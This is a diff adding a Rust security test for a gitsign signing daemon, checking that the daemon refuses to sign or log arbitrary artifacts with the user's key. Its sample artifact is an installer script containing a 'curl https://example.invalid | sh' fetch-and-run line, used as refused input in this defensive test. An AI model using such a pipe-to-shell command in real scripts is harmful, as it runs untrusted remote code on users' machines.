@@ -1656,3 +1656,34 @@ fn the_daemon_fetches_nothing_a_client_or_rekor_points_it_to() {
     }
     drop(answered);
 }
+
+/// Whoever reaches the socket (the far end of a forwarded socket, too)
+/// can have the daemon sign any bytes with the user's key and, with a
+/// `rekor` target, log them: a signature over an arbitrary artifact (a
+/// release tarball, a script) under the user's Fulcio certificate, logged
+/// in Rekor by the user's own daemon, which `cosign verify-blob
+/// --certificate-identity <user>` accepts. gitsign itself only ever asks
+/// for two shapes: the DER SignedAttributes of a CMS signature (a SET with
+/// contentType, signingTime and messageDigest) and, in online mode, a hex
+/// object id. Signing commits the user never made is inherent in an agent
+/// (documented, as with ssh-agent); signing anything else is not needed.
+/// Expected: anything but those shapes is refused and nothing is posted.
+#[test]
+fn the_daemon_signs_only_what_gitsign_signs() {
+    let (url, posted) = fake_rekor();
+    let d = Daemon::start(&["--rekor-url", &url]);
+    let c = d.client();
+    c.store(&key("art"), &cred(600)).unwrap();
+    let artifact = b"#!/bin/sh\n# release 1.0 installer\ncurl https://example.invalid | sh\n";
+    let target = proto::RekorTarget {
+        url: url.clone(),
+        timeout_ms: 5_000,
+    };
+    let answer = c.sign(&key("art"), artifact, Some(target));
+    let signed_artifact = matches!(&answer, Ok(Some(s)) if verifies(artifact, &s.signature));
+    let logged = posted.recv_timeout(Duration::from_millis(500)).is_ok();
+    assert!(
+        !signed_artifact && !logged,
+        "the daemon signed an arbitrary artifact with the user's key (logged in Rekor: {logged})"
+    );
+}
